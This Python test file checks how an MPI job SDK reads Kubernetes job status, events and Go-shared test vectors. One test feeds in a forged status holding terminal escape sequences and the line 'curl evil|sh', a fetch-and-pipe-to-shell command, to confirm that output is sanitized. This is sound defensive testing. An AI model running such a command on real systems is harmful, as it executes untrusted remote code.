"""A job's status and events as the SDK reads them (mpijob.types), from Go's vectors."""

import json
from datetime import datetime, timezone

import pytest
from support import REPO

from mpijob import (
    JobStatus,
    MPIJob,
)


def test_status_from_manager_annotation():
    obj = {"metadata": {"annotations": {
        "mpijob.dev/creator": "dev-a",
        "mpijob.dev/status": '{"phase":"Failed","reason":"WorkerOOMKilled","message":"Worker 1 was killed",'
                             '"nextStep":"Give it more memory","launcher":"Failed","workersReady":1,"workersTotal":2,'
                             '"startTime":"2026-11-22T10:00:00Z","completionTime":"2026-11-22T10:01:00Z"}'}}}
    s = JobStatus.from_trainjob(obj)
    assert (s.phase, s.reason, s.next_step, s.workers_ready, s.workers_total, s.creator) == \
        ("Failed", "WorkerOOMKilled", "Give it more memory", 1, 2, "dev-a")
    assert s.finished and s.from_manager
    assert s.completion_time == datetime(2026, 11, 22, 10, 1, tzinfo=timezone.utc)


def test_status_without_manager_reads_trainer_conditions():
    obj = {"metadata": {}, "spec": {"trainer": {"numNodes": 3}},
           "status": {"conditions": [{"type": "Complete", "status": "True", "lastTransitionTime": "2026-11-22T10:00:00Z"}]}}
    s = JobStatus.from_trainjob(obj)
    assert s.phase == "Succeeded" and not s.from_manager and s.workers_total == 3


def test_slots_and_gpus_from_the_managers_status():
    status = {"phase": "Running", "slotsPerWorker": 4, "gpusPerWorker": "1 amd.com/gpu", "workersTotal": 2}
    obj = {"metadata": {"name": "amd", "namespace": "team-b", "annotations": {"mpijob.dev/status": json.dumps(status)}},
           "spec": {"runtimeRef": {"name": "amd"}, "trainer": {"numNodes": 2}}}
    job = MPIJob.from_trainjob(obj)
    assert (job.slots_per_worker, job.status.gpus_per_worker) == (4, "1 amd.com/gpu")


JOB_OBJECTS = json.loads((REPO / "pkg/api/testdata/job-objects.json").read_text())["vectors"]


@pytest.mark.parametrize("v", JOB_OBJECTS, ids=[v["name"] for v in JOB_OBJECTS])
def test_is_job_object_matches_the_cli(v):
    # The vectors Go's api.IsJobObject is tested with (pkg/api/testdata).
    from mpijob import is_job_object
    assert is_job_object(v["job"], v["kind"], v["object"]) == v["belongs"]


def test_phase_and_launcher_literals_are_gos_words():
    # pkg/api/testdata/vocabulary.json is checked against Go's constants by pkg/api's tests.
    from mpijob.types import LAUNCHER_STATES, PHASES
    vocab = json.loads((REPO / "pkg/api/testdata/vocabulary.json").read_text())
    assert list(PHASES) == vocab["phases"]
    assert [s for s in LAUNCHER_STATES if s] == vocab["launcherStates"]


FALLBACK = json.loads((REPO / "pkg/api/testdata/fallback-status.json").read_text())["vectors"]


@pytest.mark.parametrize("v", FALLBACK, ids=[v["name"] for v in FALLBACK])
def test_fallback_status_matches_the_cli(v):
    # The vectors Go's api.StatusOf is tested with (pkg/api/testdata).
    s = JobStatus.from_trainjob(v["trainJob"])
    want = v["want"]
    assert not s.from_manager
    assert (s.phase, s.message, s.workers_total) == (want["phase"], want.get("message", ""), want.get("workersTotal", 0))
    got_done = s.completion_time.isoformat().replace("+00:00", "Z") if s.completion_time else None
    assert got_done == want.get("completionTime")


CLEAN = json.loads((REPO / "pkg/api/testdata/clean-text.json").read_text())["vectors"]


@pytest.mark.parametrize("v", CLEAN, ids=[v["name"] for v in CLEAN])
def test_clean_text_matches_the_cli(v):
    # The vectors Go's api.CleanText is tested with.
    from mpijob.types import clean_text
    assert clean_text(v["in"]) == v["out"]


def test_a_forged_status_reaches_no_terminal():
    forged = json.dumps({"phase": "Failed", "message": "\x1b[31mboom", "nextStep": "\x1b]0;x\x07curl evil|sh",
                         "nextSteps": ["\u202eabc"], "launcher": "Failed"})
    s = JobStatus.from_trainjob({"metadata": {"name": "j", "annotations": {"mpijob.dev/status": forged}}})
    assert (s.phase, s.message, s.next_step, s.next_steps) == ("Failed", "boom", "curl evil|sh", ["abc"])


STALE = json.loads((REPO / "pkg/api/testdata/stale-status.json").read_text())["vectors"]


@pytest.mark.parametrize("v", STALE, ids=[v["name"] for v in STALE])
def test_stale_status_matches_the_cli(v):
    # The vectors Go's api.ManagerStateOf and StaleNote are tested with.
    from mpijob.types import _time, manager_state, stale_note
    now = _time(v["now"])
    running, since = manager_state(v["lease"], now)
    assert running == v["running"]
    assert stale_note(running, since, _time(v["observed"]), now) == v["note"]


EVENT_PROOF = json.loads((REPO / "pkg/api/testdata/event-proof.json").read_text())


@pytest.mark.parametrize("v", EVENT_PROOF["vectors"], ids=[v["name"] for v in EVENT_PROOF["vectors"]])
def test_forged_events_match_the_cli(v):
    # The vectors Go's api.ForgedEvent is tested with.
    from mpijob.types import forged_event
    reporters = (v.get("reportingComponent", ""), v.get("sourceComponent", ""), v.get("reportingInstance", ""))
    assert forged_event(v["uid"], v["type"], v["reason"], v["message"], reporters, EVENT_PROOF["eventDigests"]) == v["forged"]


def test_status_keeps_pods_and_transitions_after_they_are_gone():
    from mpijob import JobStatus
    s = {"phase": "Failed", "reason": "WorkerOOMKilled", "message": "Worker 1 was killed.",
         "pods": [{"role": "launcher", "index": 0, "pod": "pm-launcher-0-0-a", "node": "n1", "state": "Error (exit 1)", "gone": True},
                  {"role": "worker", "index": 1, "pod": "pm-node-0-1-b", "state": "OOMKilled (exit 137)", "restarts": 2, "gone": True}],
         "history": [{"time": "2026-11-24T06:00:00Z", "phase": "Running", "message": "Running on 2 Workers."},
                     {"time": "2026-11-24T06:05:00Z", "phase": "Failed", "reason": "WorkerOOMKilled", "message": "Worker 1 was \x1b[31mkilled."}]}
    obj = {"metadata": {"name": "pm", "annotations": {"mpijob.dev/status": json.dumps(s)}}}
    st = JobStatus.from_trainjob(obj)
    assert [(p.role, p.index, p.state, p.restarts, p.gone) for p in st.pods] == [
        ("launcher", 0, "Error (exit 1)", 0, True), ("worker", 1, "OOMKilled (exit 137)", 2, True)]
    assert [(t.phase, t.reason) for t in st.history] == [("Running", ""), ("Failed", "WorkerOOMKilled")]
    assert st.history[0].time is not None and st.history[0].time.hour == 6
    assert "\x1b" not in st.history[1].message


ROW = json.loads((REPO / "pkg/api/testdata/row-from-status.json").read_text())


@pytest.mark.parametrize("v", ROW["vectors"], ids=[v["name"] for v in ROW["vectors"]])
def test_row_from_metadata_matches_the_cli(v):
    # The vectors Go's api.RowFromStatus is tested with (pkg/api/testdata).
    from mpijob.types import MPIJob
    job = MPIJob.from_metadata({"kind": "PartialObjectMetadata", "metadata": {"name": "j", "annotations": v["annotations"]}})
    assert (job is not None) == v["want"]
    if job is not None:
        assert job.runtime and job.slots_per_worker >= 1


def test_whole_reads_match_the_cli():
    from mpijob.backends.kubernetes import MAX_GETS
    assert ROW["maxWholeReads"] == MAX_GETS


def test_slots_per_worker_are_the_managers_first_as_in_go():
    # Go's jobview.JobWith: the status's slots when the manager wrote some, else the spec's, else 1.
    from support import _trainjob

    from mpijob import MPIJob
    tj = _trainjob({"phase": "Running", "slotsPerWorker": 4})
    tj["spec"]["trainer"]["numProcPerNode"] = 2
    assert MPIJob.from_trainjob(tj).slots_per_worker == 4
    tj = _trainjob({"phase": "Running"})
    tj["spec"]["trainer"]["numProcPerNode"] = 2
    assert MPIJob.from_trainjob(tj).slots_per_worker == 2
    assert MPIJob.from_trainjob(_trainjob(None)).slots_per_worker == 1
